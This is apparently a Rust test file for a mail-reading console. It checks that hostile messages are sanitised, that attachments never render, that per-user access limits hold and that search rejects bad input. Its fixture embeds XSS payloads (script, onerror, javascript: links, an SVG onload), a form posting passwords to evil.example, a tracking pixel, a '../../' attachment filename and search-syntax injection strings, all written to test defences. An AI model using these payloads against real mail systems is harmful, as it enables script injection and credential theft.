//! Reading mail in the console, on a real console with hostile mail: the mail page and the DR
//! page show the text or the sanitised HTML (nothing that runs, remote images held back until
//! asked), attachments download as attachments that never render, inline images are raster
//! only, and nobody opens a message outside their scope.

#![allow(clippy::unwrap_used, clippy::expect_used, missing_docs)]

mod common;

use common::*;
use etraq_core::Role;

const HOSTILE: &str = "From: Mallory <mallory@customer.test>\r\nTo: ann@example.com\r\n\
Subject: Invoice\r\nMessage-ID: <hostile@customer.test>\r\nDate: Fri, 27 Nov 2026 09:00:00 +0000\r\n\
MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n\
--b\r\nContent-Type: multipart/related; boundary=\"r\"\r\n\r\n\
--r\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
<html><head><base href=\"https://evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">\
<style>body{display:none}</style><script>alert('script')</script></head><body>\
<p id=\"greeting\">Please find the invoice attached.</p>\
<img src=\"x\" onerror=\"alert('onerror')\">\
<a href=\"javascript:alert('js')\">pay now</a>\
<p style=\"width:expression(alert('css'))\">styled</p>\
<svg><script>alert('svg')</script></svg>\
<form action=\"https://evil.example/steal\"><input name=\"password\"></form>\
<img src=\"https://tracker.example/pixel.gif\" width=\"1\" height=\"1\">\
<img src=\"cid:logo@customer.test\" alt=\"logo\">\
<img src=\"cid:vector@customer.test\" alt=\"vector\">\
</body></html>\r\n\
--r\r\nContent-Type: image/png\r\nContent-ID: <logo@customer.test>\r\nContent-Transfer-Encoding: base64\r\n\r\n\
iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==\r\n\
--r\r\nContent-Type: image/svg+xml\r\nContent-ID: <vector@customer.test>\r\n\r\n\
<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>\r\n--r--\r\n\
--b\r\nContent-Type: text/html; name=\"../../evil.html\"\r\n\
Content-Disposition: attachment; filename=\"../../evil.html\"\r\n\r\n\
<script>alert('attachment')</script>\r\n\
--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment\r\n\
Content-Transfer-Encoding: base64\r\n\r\nAAEC\r\n--b--\r\n";

const REPLY: &str = "From: Carol <carol@customer.test>\r\nTo: ann@example.com\r\n\
Subject: Re: Parcel\r\nMessage-ID: <reply@customer.test>\r\nDate: Fri, 27 Nov 2026 10:00:00 +0000\r\n\r\n\
It arrived, thank you!\r\n\r\nOn Thu, 26 Nov 2026, Ann <ann@example.com> wrote:\r\n> We sent it on Monday.\r\n";

async fn seq_of(c: &Console, id: &str) -> u64 {
    c.store
        .mails_by_message_id(&etraq_core::MessageId::parse(id).unwrap())
        .await
        .unwrap()[0]
        .seq
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_html_is_shown_safely_and_attachments_never_render() {
    let c = Console::start().await;
    c.user("ann@example.com", Role::Agent, None, None).await;
    c.user("bob@example.com", Role::Agent, None, None).await;
    let dr = c.mail(HOSTILE).await.expect("tracked for ann");
    let seq = seq_of(&c, "<hostile@customer.test>").await;
    let ann = c.login_as("ann@example.com").await;

    let page = ann.get(&format!("/mail/{seq}")).await;
    assert_eq!(page.status, 200);
    let body = &page.body;
    let html = body
        .split(&format!("id=\"mail-body-{seq}\""))
        .nth(1)
        .and_then(|s| s.split("</article>").next())
        .expect("the message body");
    assert!(html.contains("Please find the invoice attached."), "{html}");
    for bad in [
        "<script",
        "onerror",
        "javascript:",
        "expression(",
        "<style",
        "<svg",
        "<form",
        "<input",
        "<base",
        "<meta",
        "evil.example",
        "tracker.example",
        "alert(",
    ] {
        assert!(!html.to_ascii_lowercase().contains(bad), "{bad} in {html}");
    }
    // The remote pixel is held back, with a way to load it; the inline PNG is shown.
    assert!(body.contains("1 remote image(s) not loaded"), "{body}");
    assert!(
        html.contains(&format!("src=\"/mail/{seq}/cid/logo%40customer%2Etest\"")),
        "{html}"
    );
    assert!(
        !page.headers["content-security-policy"]
            .to_str()
            .unwrap()
            .contains("https:")
    );
    let shown = ann.get(&format!("/mail/{seq}?images=1")).await;
    assert!(shown.body.contains("https://tracker.example/pixel.gif"));
    let csp = shown.headers["content-security-policy"].to_str().unwrap();
    assert!(csp.contains("img-src 'self' data: https: http:") && csp.contains("script-src 'self'"));

    // The text/html attachment named ../../evil.html downloads as evil.html, never rendered.
    assert!(body.contains(">evil.html<"), "listed with its safe name");
    let part = ann.get(&format!("/mail/{seq}/part/2")).await;
    assert_eq!(part.status, 200);
    let cd = part.headers["content-disposition"].to_str().unwrap();
    assert!(cd.starts_with("attachment; filename=\"evil.html\""), "{cd}");
    assert_eq!(part.headers["content-type"], "application/octet-stream");
    assert_eq!(part.headers["x-content-type-options"], "nosniff");
    assert!(
        part.headers["content-security-policy"]
            .to_str()
            .unwrap()
            .contains("sandbox")
    );
    assert!(
        part.body.contains("alert('attachment')"),
        "the bytes as sent"
    );
    // An attachment without a name gets one.
    assert!(body.contains(">attachment-4.bin<"), "{body}");
    let unnamed = ann.get(&format!("/mail/{seq}/part/3")).await;
    assert!(
        unnamed.headers["content-disposition"]
            .to_str()
            .unwrap()
            .contains("attachment-4.bin")
    );
    assert_eq!(ann.get(&format!("/mail/{seq}/part/99")).await.status, 404);
    assert_eq!(ann.get(&format!("/mail/{seq}/part/x")).await.status, 400);

    // Inline: the PNG with its type; the SVG (it can script) never.
    let png = ann
        .get(&format!("/mail/{seq}/cid/logo%40customer.test"))
        .await;
    assert_eq!(png.status, 200);
    assert_eq!(png.headers["content-type"], "image/png");
    assert_eq!(
        ann.get(&format!("/mail/{seq}/cid/vector%40customer.test"))
            .await
            .status,
        404
    );

    // The DR page shows the message too (its text), and links the mail page.
    let drp = ann.get(&format!("/dr/{dr}")).await;
    assert!(drp.body.contains("id=\"messages\""));
    assert!(drp.body.contains(&format!("href=\"/mail/{seq}\"")));
    assert!(
        !drp.body.contains("alert("),
        "nothing hostile on the DR page either"
    );

    // Bob may not see Ann's DR: every route is 404 for him, as for a mail that does not exist.
    let bob = c.login_as("bob@example.com").await;
    for path in [
        format!("/mail/{seq}"),
        format!("/mail/{seq}/part/2"),
        format!("/mail/{seq}/cid/logo%40customer.test"),
    ] {
        assert_eq!(bob.get(&path).await.status, 404, "{path}");
    }
    assert_eq!(ann.get("/mail/999999").await.status, 404);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn quoted_history_is_folded_and_the_new_text_comes_first() {
    let c = Console::start().await;
    c.user("ann@example.com", Role::Agent, None, None).await;
    let dr = c.mail(REPLY).await.expect("tracked");
    let seq = seq_of(&c, "<reply@customer.test>").await;
    let ann = c.login_as("ann@example.com").await;
    for path in [format!("/mail/{seq}"), format!("/dr/{dr}")] {
        let page = ann.get(&path).await;
        let body = &page.body;
        let new = body.find("It arrived, thank you!").expect("the new text");
        let folded = body
            .find("<details class=\"quoted\"><summary>Quoted text</summary>")
            .expect("the history folded");
        assert!(new < folded, "{path}: new text first");
        assert!(body[folded..].contains("We sent it on Monday."));
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn search_finds_only_what_the_agent_may_open() {
    let c = Console::start().await;
    c.user("ann@example.com", Role::Agent, None, None).await;
    c.user("bob@example.com", Role::Agent, None, None).await;
    for (to, id, body) in [
        (
            "ann@example.com",
            "s1@cust.example",
            "My parcel never arrived in Köln.",
        ),
        (
            "bob@example.com",
            "s2@cust.example",
            "The parcel for Bob is late.",
        ),
    ] {
        c.mail(&format!(
            "From: Carol <carol@cust.example>\r\nTo: {to}\r\nSubject: Parcel\r\nMessage-ID: <{id}>\r\n\
             Date: Fri, 27 Nov 2026 09:00:00 +0000\r\n\r\n{body}\r\n"
        ))
        .await
        .expect("tracked");
    }
    let ann = c.login_as("ann@example.com").await;
    let page = ann.get("/search?q=parcel").await;
    assert_eq!(page.status, 200);
    assert!(
        page.body.contains("1 result(s) for parcel"),
        "{}",
        page.body
    );
    assert!(page.body.contains("My parcel never arrived"));
    assert!(
        page.body
            .contains("aria-label=\"Search mail\" value=\"parcel\""),
        "the box keeps the query"
    );
    assert!(
        !page.body.contains("for Bob"),
        "Bob's mail is not Ann's to find"
    );
    // The box is on every page; the filters add operators.
    assert!(ann.get("/tracked").await.body.contains("id=\"search-box\""));
    let f = ann
        .get("/search?q=parcel&from=carol%40cust.example&after=2026-11-01")
        .await;
    assert!(
        f.body
            .contains("1 result(s) for parcel from:carol@cust.example after:2026-11-01")
    );
    assert!(
        ann.get("/search?q=koln").await.body.contains("My parcel"),
        "diacritics fold"
    );

    let api = ann.get("/api/v1/search?q=parcel").await;
    assert_eq!(api.status, 200);
    let rows = api.json();
    assert_eq!(rows.as_array().unwrap().len(), 1, "{rows}");
    assert_eq!(rows[0]["from"], "carol@cust.example");
    assert!(rows[0]["snippet"].as_str().unwrap().contains("parcel"));
    for k in [
        "message_id",
        "dr",
        "date",
        "direction",
        "to",
        "subject",
        "score",
    ] {
        assert!(rows[0].get(k).is_some(), "{k}");
    }
    let admin = c.admin().await;
    assert_eq!(
        admin
            .get("/api/v1/search?q=parcel")
            .await
            .json()
            .as_array()
            .unwrap()
            .len(),
        2
    );

    // Bad queries: a clear answer, never SQL.
    let bad = ann.get("/search?q=before%3Asoon").await;
    assert_eq!(bad.status, 400);
    assert!(bad.body.contains("is not a date"), "{}", bad.body);
    let many = vec!["w"; 40].join("+");
    let r = ann.get(&format!("/api/v1/search?q={many}")).await;
    assert_eq!(r.status, 400);
    assert!(r.body.contains("at most 32"), "{}", r.body);
    // 10,000 terms do not even fit in a request line: refused before any search.
    let huge = vec!["w"; 10_000].join("+");
    assert_eq!(
        ann.get(&format!("/api/v1/search?q={huge}")).await.status,
        431
    );
    for q in ["NEAR%28a", "%22unbalanced", "x*", "%5E", "a%22b", "col%3A"] {
        let r = ann.get(&format!("/api/v1/search?q={q}")).await;
        assert!(r.status == 200 || r.status == 400, "{q}: {}", r.status);
        assert!(
            !r.body.to_lowercase().contains("sqlite") && !r.body.contains("fts5"),
            "{q}: {}",
            r.body
        );
    }
    assert_eq!(ann.get("/api/v1/search").await.status, 400, "no query");
}
